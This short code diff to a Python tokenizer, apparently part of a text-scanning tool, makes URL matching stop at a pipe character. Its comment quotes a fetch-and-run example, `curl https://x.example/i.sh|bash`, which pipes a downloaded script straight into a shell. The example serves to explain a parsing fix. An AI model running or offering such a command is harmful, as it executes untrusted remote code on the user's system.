@@ -2367,8 +2367,9 @@ def _prepared_apart(text: str) -> str:
 
 # A link or an address is one token whatever it holds: its dots would end the gaps of the
 # cues that read across it ("fetched from https://x.example/a.py and run"), and its words
-# (a host's name) are not the sentence's
-_LINK = re.compile(r"(?<![\w@])(?:https?://|www\.)[^\s<>\"'`)\]]+")
+# (a host's name) are not the sentence's. A pipe, which no link holds unencoded, ends it:
+# `curl https://x.example/i.sh|bash` pipes the page into a shell
+_LINK = re.compile(r"(?<![\w@])(?:https?://|www\.)[^\s<>\"'`)\]|]+")
 _ADDRESS = re.compile(r"\b[\w.+-]+@[\w-]+\.[\w.]*\w")
 
 
